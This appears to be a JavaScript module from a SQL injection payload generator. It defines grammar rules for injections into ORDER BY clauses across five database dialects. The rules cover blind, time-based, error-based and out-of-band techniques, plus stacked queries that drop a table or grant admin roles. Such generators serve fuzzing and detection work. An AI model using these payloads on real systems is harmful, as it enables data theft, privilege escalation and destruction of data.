import { ORDER_BY } from '../place.js';
import { sqlGenerator } from '../sql-generator.js';

/** Sorting that depends on a secret, fails or waits. */
export const orderBy = sqlGenerator({
  name: 'order-by',
  places: [ORDER_BY],
  rules: {
    start: [
      '(CASE WHEN ({guess}) THEN {name} ELSE {other} END)',
      '{name},(SELECT {digit} FROM {table} WHERE {guess})',
      '(SELECT CASE WHEN ({guess}) THEN {digit} ELSE {digit} END)',
      '{name} {way},({secret})',
      '{name} {way}, {number}*(SELECT id FROM users WHERE id=1)',
      '{wait}',
      '{name} {way};{second}{comment}',
      '{name} {way} LIMIT 1 {comment}',
      '{choice}',
      '{name},{choice} {way}',
      '{name}={quote}{tag}{quote},{wait}',
    ],
    name: ['name', 'id', 'price', 'category', '1', '2'],
    other: ['id', 'price', '-id', 'stock', '0'],
    quote: ["'"],
    way: ['ASC', 'desc', 'DESC', ''],
    guess: [
      '{digit}={digit}',
      '{length}>{digit}',
      '{ascii}>{code}',
      "{substring}='{letter}'",
      '{scan:a}={scan:a}',
      'EXISTS(SELECT * FROM users)',
    ],
    second: ['DROP TABLE messages', "UPDATE users SET role='admin'", 'SELECT {version}'],
    wait: ['{sleep}'],
    choice: ['(CASE WHEN {guess} THEN 1 ELSE 2 END)'],
  },
  byDialect: {
    mysql: {
      other: ['id', 'price', '-id', '(SELECT 1 UNION SELECT 2)'],
      choice: [
        'IF({guess},name,id)',
        'IF({guess},1,(SELECT 1 UNION SELECT 2))',
        'FIELD(id,{digit},{digit})',
        'RAND({guess})',
        'ELT(({guess})+1,name,price)',
        'EXTRACTVALUE(1,{joined})',
        'UPDATEXML(1,{joined},1)',
        '(SELECT 1 REGEXP IF({guess},1,0x00))',
      ],
    },
    postgres: {
      other: ['name', 'category'],
      name: ['name', 'category', 'name'],
      choice: [
        'CASE WHEN {guess} THEN 1/(SELECT 0) ELSE 1 END',
        '(SELECT 1 FROM PG_SLEEP({sec}))',
        'NULLIF({guess},true)',
        '({secret})::int',
      ],
      wait: ['(SELECT 1 FROM PG_SLEEP({sec}))', 'PG_SLEEP({sec})'],
    },
    sqlite: { choice: ['IIF({guess},name,id)', 'CASE WHEN {guess} THEN abs(-9223372036854775808) ELSE 1 END'] },
    mssql: {
      choice: [
        'IIF({guess},1,1/0)',
        'CASE WHEN {guess} THEN 1 ELSE 1/0 END',
        '(SELECT TOP 1 CAST(name AS INT) FROM users)',
      ],
    },
    oracle: {
      choice: [
        'DECODE({digit},{digit},name,id)',
        'CASE WHEN {guess} THEN 1 ELSE 1/0 END',
        '(SELECT UTL_INADDR.GET_HOST_NAME({secret}) FROM DUAL)',
      ],
    },
  },
});
